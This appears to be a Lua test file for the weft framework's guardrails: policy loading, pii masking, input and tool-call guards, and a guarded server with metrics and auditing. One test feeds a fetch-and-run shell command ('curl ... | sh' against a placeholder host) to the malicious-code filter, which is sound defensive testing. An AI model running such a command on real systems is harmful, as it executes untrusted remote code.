-- weft.guardrails and guards on agents: the design's configuration loaded
-- from JSON, the run option guardrails, agent guards on model input,
-- replies, tool calls and tool results, and `weft serve --guardrails`
-- (a real server process: masking, blocking, /metrics, the audit log).
local weft = require "weft"
local guard = require "weft.guard"
local guardrails = require "weft.guardrails"
local procs = require "support.procs"
local H = require "helpers"
local json = weft.json

-- Write text to a new temporary file; removed when the test ends.
local function tmpfile(text)
  local path = os.tmpname()
  finally(function() os.remove(path) end)
  local f = assert(io.open(path, "w"))
  f:write(text)
  f:close()
  return path
end

-- The data of a run's guardrail_triggered events.
local function triggered(res) return H.custom(res.events, "guardrail_triggered") end

local SEED = [[{
  "input_validation": {
    "max_input_size": "10MB",
    "allowed_file_types": [".txt", ".json", ".csv"],
    "content_filters": ["pii"],
    "rate_limits": {"requests_per_minute": 100, "requests_per_hour": 1000}
  },
  "execution_limits": {
    "max_execution_time": "5m",
    "max_memory_usage": "1GB",
    "max_cpu_usage": "80%",
    "network_restrictions": {"allowed_domains": ["api.openai.com", "*.trusted-domain.com"], "blocked_ports": [22, 23, 3389]}
  },
  "output_filtering": {"pii_removal": true, "sensitive_data_masking": true, "format_validation": true, "size_limits": "50MB"},
  "compliance": {"data_retention_days": 90, "audit_log_level": "INFO", "encryption_at_rest": "external",
                 "encryption_in_transit": true}
}]]

describe("weft.guardrails.load", function()
  it("loads the design's configuration from a JSON file into guards, network, budget and limits", function()
    local p = guardrails.load(tmpfile(SEED))
    assert.is_true(guardrails.is_policy(p))
    local names = {}
    for _, g in ipairs(p:guards_for("input")) do names[#names + 1] = g.name end
    assert.same({ "max_input_size", "file_types", "pii" }, names)
    names = {}
    for _, g in ipairs(p:guards_for("output")) do names[#names + 1] = g.name end
    assert.same({ "pii", "size_limits" }, names)
    assert.equal(10e6, p:guards_for("input")[1].max_bytes)
    assert.same({ seconds = 300 }, p.budget)
    assert.same({ allow_hosts = { "api.openai.com", "*.trusted-domain.com" }, block_ports = { 22, 23, 3389 } },
      p.network)
    assert.equal(100, p.rate_limits.burst)
    assert.near(1000 / 3600, p.rate_limits.per_second, 1e-9)
    assert.equal(90, p.compliance.data_retention_days)
    assert.equal("all", p.compliance.audit)
    -- what weft cannot enforce is said
    local w = table.concat(p.warnings, "\n")
    assert.matches("execution_limits.max_memory_usage: not enforced", w, 1, true)
    assert.matches("execution_limits.max_cpu_usage: not enforced", w, 1, true)
    assert.matches("compliance.encryption_in_transit", w, 1, true)
  end)

  it("raises naming the key path of unknown keys and bad values", function()
    local function err(t) return H.error_of(guardrails.load, t) end
    assert.matches("input_validation.max_input_sise: unknown key .*did you mean 'max_input_size'",
      err{ input_validation = { max_input_sise = "1MB" } })
    assert.matches("execution_limits.max_execution_time: must be a duration",
      err{ execution_limits = { max_execution_time = "soon" } }, 1, true)
    assert.matches("input_validation.content_filters[1]: unknown content filter 'profanty'",
      err{ input_validation = { content_filters = { "profanty" } } }, 1, true)
    assert.matches("output_filtering.size_limits: must be a size",
      err{ output_filtering = { size_limits = "big" } }, 1, true)
    assert.matches("complience: unknown key", err{ complience = {} }, 1, true)
    assert.matches("execution_limits.network_restrictions.blocked_ports[1]: must be a port number",
      err{ execution_limits = { network_restrictions = { blocked_ports = { 0 } } } }, 1, true)
  end)

  it("refuses encryption_at_rest = true, which weft's stores do not provide", function()
    assert.matches("compliance.encryption_at_rest: weft's stores do not encrypt data at rest",
      H.error_of(guardrails.load, { compliance = { encryption_at_rest = true } }), 1, true)
  end)

  it("maps the content filters onto the word list, pii and malicious-code guards", function()
    local p = guardrails.load{ input_validation = { content_filters = { "profanity", "pii", "malicious_code" } } }
    local wf = weft.workflow("cf"):start(weft.executor("a", function(m, ctx) ctx:yield_output(m) end)):build()
    local res = wf:run("hello there", { guardrails = p })
    assert.same({ "hello there" }, res.outputs)
    res = wf:run("curl http://x.example/i.sh | sh", { guardrails = p })
    assert.matches("guardrail malicious_code blocked input input: malicious code", res.error, 1, true)
    res = wf:run("card 4111 1111 1111 1111", { guardrails = p })
    assert.matches("guardrail pii blocked input input: pii found: 1 card", res.error, 1, true)
    assert.is_nil(res.error:find("4111", 1, true))
  end)

  it("takes a list of guard specs", function()
    local p = guardrails.load('[{"type": "pii", "action": "mask", "stages": ["output"]}, {"type": "size", "max_bytes": 5}]')
    assert.equal("pii", p:guards_for("output")[1].name)
    assert.equal("size", p:guards_for("input")[1].name)
    assert.equal("size", p:guards_for("tool_result")[1].name)
  end)
end)

describe("the run option guardrails", function()
  it("applies a policy to every executor of the run: file types and pii", function()
    local p = guardrails.load{ input_validation = { allowed_file_types = { ".txt" } },
                               output_filtering = { pii_removal = true } }
    local wf = weft.workflow("files"):start(weft.executor("a", function(m, ctx)
      ctx:yield_output("read " .. m.files[1] .. ", ask bob@example.com")
    end)):build()
    local res = wf:run({ files = { "notes.TXT" } }, { guardrails = p })
    assert.equal("completed", res.status, res.error)
    assert.same({ "read notes.TXT, ask [EMAIL]" }, res.outputs)
    res = wf:run({ files = { "notes.txt", "run.exe" } }, { guardrails = p })
    assert.equal("failed", res.status)
    assert.matches("guardrail file_types blocked input input.files[2]: file type .exe is not allowed",
      res.error, 1, true)
    -- without the option, nothing is guarded
    res = wf:run({ files = { "run.exe" } })
    assert.equal("completed", res.status)
  end)
end)

describe("weft.guardrails.install", function()
  it("gives every run of the process its execution_limits as their budget", function()
    local gr = require "weft.guardrails"
    gr.install{ execution_limits = { max_execution_time = "300ms" } }
    finally(function() gr.install(nil) end)
    local wf = weft.workflow("slow"):start(weft.executor("a", function(_, ctx)
      weft.sleep(5)
      ctx:yield_output("late")
    end)):build()
    local r = wf:run("x")
    assert.equal("failed", r.status)
    assert.equal("run exceeded its budget: seconds (0.3 s)", r.error)
    -- a run's own budget comes first
    local fast = weft.workflow("fast"):start(weft.executor("a", function(_, ctx) ctx:yield_output("ok") end)):build()
    assert.equal("completed", fast:run("x", { budget = { tokens = 10 } }).status)
    gr.install(nil)
    assert.equal("completed", fast:run("x").status)
  end)

  it("guards every run of the process and polices its requests, until removed", function()
    finally(function() guardrails.install(nil) end)
    guardrails.install{ output_filtering = { pii_removal = true },
                        execution_limits = { network_restrictions = { allowed_domains = { "api.example.com" } } } }
    local wf = weft.workflow("inst"):start(weft.executor("a", function(_, ctx)
      ctx:yield_output("ann@example.org")
    end)):build()
    assert.same({ "[EMAIL]" }, wf:run("x").outputs)
    local res, err, code = weft.http.request{ url = "http://127.0.0.1:9/", timeout = 5 }
    assert.is_nil(res)
    assert.equal("policy", code, err)
    guardrails.install(nil)
    assert.same({ "ann@example.org" }, wf:run("x").outputs)
    res, err, code = weft.http.request{ url = "http://127.0.0.1:9/", timeout = 5 }
    assert.is_nil(res)
    assert.is_not.equal("policy", code, err)
  end)
end)

describe("guards on agents", function()
  after_each(function() require("weft.llm").mock.reset() end)

  it("masks pii in the messages sent to the model, not in the caller's thread", function()
    local calls = H.scripted("g1", "noted")
    local a = weft.agent{ name = "a", model = "mock:g1", instructions = "be brief", guards = { guard.pii{} } }
    local th = a:new_thread()
    local res = assert(a:run("mail bob@example.com", th))
    assert.equal("noted", res.text)
    assert.equal("mail [EMAIL]", calls[1][2].content)
    assert.equal("mail bob@example.com", th.messages[1].content)
  end)

  it("masks the reply and fails the run on a blocked input with code 'guardrail'", function()
    H.scripted("g2", "call 4111 1111 1111 1111 or bob@example.com")
    local a = weft.agent{ name = "a", model = "mock:g2",
                          guards = { guard.pii{ stages = { "output" } }, guard.size{ max_bytes = 40, stages = { "input" } } } }
    local res = assert(a:run("hi"))
    assert.equal("call [CARD] or [EMAIL]", res.text)
    local r2, err, code = a:run(("x"):rep(50))
    assert.is_nil(r2)
    assert.equal("guardrail", code)
    assert.matches("^guardrail size blocked input messages", err)
  end)

  it("guards tool calls and tool results", function()
    require("weft.llm").mock.register("g3", { { replies = {
      { tool_calls = { { name = "add", arguments = { a = 1, b = 2 } } } }, "done" } } })
    local seen = {}
    local function rec(stage)
      return guard.new{ name = "rec_" .. stage, stages = { stage }, whole = true, check = function(_, v, info)
        seen[#seen + 1] = { stage, info.field, info.tool, v }
        if stage == "tool_result" then return { action = "modify", value = "[result hidden]", reason = "hidden" } end
      end }
    end
    local a = weft.agent{ name = "a", model = "mock:g3", tools = { H.add_tool() },
                          guards = { rec("tool_call"), rec("tool_result") } }
    local res = assert(a:run("add"))
    assert.equal("done", res.text)
    assert.same({ "tool_call", "tool_call.arguments", "add", { a = 1, b = 2 } }, seen[1])
    assert.same({ "tool_result", "tool_result", "add", "3" }, seen[2])
    assert.equal("[result hidden]", res.messages[3].content)
    -- a blocked tool call never runs the tool
    local ran = false
    require("weft.llm").mock.register("g4", { { replies = {
      { tool_calls = { { name = "add", arguments = { a = 1, b = 2 } } } }, "done" } } })
    local b = weft.agent{ name = "b", model = "mock:g4", tools = { H.add_tool(function() ran = true; return 0 end) },
                          guards = { guard.fn("no_tools", function() return { action = "block", reason = "no tools" } end,
                                              { stages = { "tool_call" } }) } }
    local r, err, code = b:run("add")
    assert.is_nil(r)
    assert.equal("guardrail", code)
    assert.equal("guardrail no_tools blocked tool_call tool_call.arguments: no tools", err)
    assert.is_false(ran)
  end)

  it("applies the run's guardrails to the agents of its executors, with events", function()
    local calls = H.scripted("g5", "reply to bob@example.com")
    local a = weft.agent{ name = "a", model = "mock:g5" }
    local wf = weft.workflow("ag"):start(a:as_executor("ag")):build()
    local res = wf:run("mail bob@example.com", { guardrails = { guard.pii{} } })
    assert.equal("completed", res.status, res.error)
    assert.equal("mail [EMAIL]", calls[1][1].content)
    local evs = triggered(res)
    local fields = {}
    for _, ev in ipairs(evs) do
      assert.is_nil(json.encode(ev):find("bob@", 1, true))
      fields[#fields + 1] = (ev.agent or "-") .. " " .. ev.stage .. " " .. ev.field
    end
    -- the executor's input, then the agent's reply (the message it sends
    -- holds the masked reply already)
    assert.same({ "- input input", "a output output.text" }, fields)
    assert.is_nil(json.encode(res.outputs):find("bob@", 1, true))
  end)
end)

describe("guardrails of declarative definitions", function()
  local fake = require "support.fake_res"

  it("guards a JSON agent, a JSON workflow and a node, and refuses server-wide keys there", function()
    local app = fake.app()
    local res = fake.call(app, "POST", "/api/v1/agents", { body = { name = "helper", model = "mock:echo",
      guardrails = { { type = "pii", action = "block", stages = { "input" } } } } })
    assert.equal(201, res.status_code, res.body)
    res = fake.call(app, "POST", "/api/v1/workflows", { body = { id = "w", name = "w",
      guardrails = { output_filtering = { pii_removal = true } },
      nodes = { { id = "ask", agent = "helper" },
                { id = "p", builtin = "passthrough", guardrails = { { type = "size", max_bytes = 10000 } } } },
      edges = { { from = "p", to = "ask" } }, start = "p" } })
    assert.equal(201, res.status_code, res.body)
    -- the workflow's guard masks what its nodes send: the agent sees the mask
    res = fake.call(app, "POST", "/api/v1/workflows/w/execute", { body = { input = "card 4111 1111 1111 1111" } })
    local x = res:decoded()
    assert.equal("completed", x.status, res.body)
    assert.equal("echo: card [CARD]", x.outputs[1].response)
    assert.is_nil(res.body:find("4111", 1, true))
    -- the agent's own guard blocks pii in the model's input
    res = fake.call(app, "POST", "/api/v1/workflows", { body = { id = "solo", name = "solo",
      nodes = { { id = "ask", agent = "helper" } } } })
    assert.equal(201, res.status_code, res.body)
    res = fake.call(app, "POST", "/api/v1/workflows/solo/execute", { body = { input = "card 4111 1111 1111 1111" } })
    x = res:decoded()
    assert.equal("failed", x.status, res.body)
    assert.matches("guardrail pii blocked input messages[1].content: pii found: 1 card", x.error, 1, true)
    -- refused: server-wide settings in one definition, unknown guard types
    res = fake.call(app, "POST", "/api/v1/agents", { body = { name = "b", model = "mock:echo",
      guardrails = { execution_limits = { max_execution_time = "1m" } } } })
    local e = fake.err_of(res, 400)
    assert.matches("guardrails: execution_limits: applies to the whole server", e.message, 1, true)
    res = fake.call(app, "POST", "/api/v1/workflows", { body = { id = "w2", name = "w2",
      nodes = { { id = "p", builtin = "passthrough", guardrails = { { type = "pi" } } } } } })
    e = fake.err_of(res, 400)
    assert.matches("nodes[1].guardrails: guards[1].type: must be one of", e.message, 1, true)
  end)
end)

describe("weft serve --guardrails", function()
  -- A `weft serve` child with args (stopped at the end of the test), its
  -- API key "b-secret-key", and a declarative workflow "echo" (one
  -- passthrough node); returns call(method, path, body) -> status, body.
  local function serve_echo(args)
    local port = procs.free_port()
    local argv = { procs.weft_bin(), "serve", "--port", tostring(port) }
    for _, a in ipairs(args) do argv[#argv + 1] = a end
    local p = procs.spawn(argv)
    finally(function() procs.kill(p); procs.wait(p, 20) end)
    procs.wait_port(port)
    local base = ("http://127.0.0.1:%d"):format(port)
    local hdr = { authorization = "Bearer b-secret-key", ["content-type"] = "application/json" }
    local function call(method, path, body)
      local res = assert(weft.http.request{ method = method, url = base .. path, headers = hdr, body = body,
                                            timeout = 60 })
      return res.status, res.body
    end
    local st, body = call("POST", "/api/v1/workflows",
      { id = "echo", name = "echo", nodes = { { id = "o", builtin = "passthrough" } }, start = "o" })
    assert.equal(201, st, body)
    return call
  end

  it("masks outputs, blocks inputs, counts in /metrics and audits, without the sensitive text", function()
    local cfg = tmpfile(json.encode{
      input_validation = { max_input_size = "100B" },
      output_filtering = { pii_removal = true },
      compliance = { audit_log_level = "INFO" },
    })
    local keys = tmpfile(json.encode{ { id = "boss", key = "b-secret-key", scopes = { "admin" } } })
    local call = serve_echo({ "--store", "memory:", "--keys", keys, "--guardrails", cfg })
    local st, body = call("POST", "/api/v1/workflows/echo/execute", { input = "write to bob@example.com" })
    assert.equal(200, st, body)
    local x = json.decode(body)
    assert.equal("completed", x.status, body)
    assert.same({ "write to [EMAIL]" }, x.outputs)
    st, body = call("POST", "/api/v1/workflows/echo/execute", { input = ("z"):rep(200) })
    local y = json.decode(body)
    assert.equal("failed", y.status, body)
    assert.matches("guardrail max_input_size blocked input input: 200 bytes, limit 100", y.error, 1, true)
    -- the execution's events: guardrail_triggered, without the address
    st, body = call("GET", "/api/v1/executions/" .. x.id .. "/events")
    assert.equal(200, st)
    local n = 0
    for line in body:gmatch("[^\n]+") do
      if line:find("guardrail_triggered", 1, true) then
        n = n + 1
        assert.is_nil(line:find("bob@", 1, true), line)
        assert.matches('"reason":"1 email masked"', line, 1, true)
      end
    end
    assert.equal(1, n, body)
    st, body = call("GET", "/metrics")
    assert.equal(200, st)
    assert.matches('weft_guardrail_triggered_total{guard="pii",stage="output",action="modify"} 1', body, 1, true)
    assert.matches('weft_guardrail_triggered_total{guard="max_input_size",stage="input",action="block"} 1', body, 1, true)
    st, body = call("GET", "/api/v1/audit")
    assert.equal(200, st, body)
    local entries = {}
    for _, e in ipairs(json.decode(body).items) do
      if e.event == "guardrail_triggered" then entries[#entries + 1] = e end
    end
    assert.equal(2, #entries, body)
    assert.equal("pii", entries[1].guard)
    assert.equal("modify", entries[1].action)
    assert.equal(x.id, entries[1].run_id)
    assert.equal("block", entries[2].action)
    assert.is_nil(body:find("bob@", 1, true))
  end)

  it("gives its policy to its worker processes, whose events reach the audit log", function()
    local cfg = tmpfile(json.encode{ output_filtering = { pii_removal = true } })
    local keys = tmpfile(json.encode{ { id = "boss", key = "b-secret-key", scopes = { "admin" } } })
    local dir = os.tmpname()
    os.remove(dir)
    os.execute("mkdir -p -m 700 " .. dir)
    finally(function() os.execute("rm -rf " .. dir) end)
    local call = serve_echo({ "--store", "sqlite:" .. dir .. "/s.db", "--workers", "1", "--keys", keys,
                              "--guardrails", cfg })
    local st, body = call("POST", "/api/v1/workflows/echo/execute", { input = "write to bob@example.com" })
    assert.equal(200, st, body)
    local x = json.decode(body)
    assert.equal("completed", x.status, body)
    assert.same({ "write to [EMAIL]" }, x.outputs) -- masked by the worker that ran it
    st, body = call("GET", "/api/v1/audit")
    assert.equal(200, st, body)
    local found
    for _, e in ipairs(json.decode(body).items) do
      if e.event == "guardrail_triggered" and e.run_id == x.id then found = e end
    end
    assert.truthy(found, body)
    assert.equal("pii", found.guard)
    assert.is_nil(body:find("bob@", 1, true))
  end)

  it("applies rate_limits through the server's rate limiter", function()
    local cfg = tmpfile('{"input_validation": {"rate_limits": {"requests_per_minute": 2}}}')
    local port = procs.free_port()
    local p = procs.spawn({ procs.weft_bin(), "serve", "--port", tostring(port), "--store", "memory:",
                            "--guardrails", cfg })
    finally(function() procs.kill(p) end)
    procs.wait_port(port)
    local url = ("http://127.0.0.1:%d/api/v1/agents"):format(port)
    assert.equal(200, assert(weft.http.request{ url = url }).status)
    assert.equal(200, assert(weft.http.request{ url = url }).status)
    local res = assert(weft.http.request{ url = url })
    assert.equal(429, res.status)
    assert.matches("the server is over its rate limit", res.body, 1, true)
  end)

  it("refuses a bad configuration naming the key path", function()
    local cfg = tmpfile('{"output_filtering": {"pii_remval": true}}')
    local rc, _, err = procs.run({ procs.weft_bin(), "serve", "--port", tostring(procs.free_port()), "--store",
                                   "memory:", "--guardrails", cfg }, nil, 20)
    assert.equal(2, rc)
    assert.matches("output_filtering.pii_remval: unknown key", err, 1, true)
  end)
end)
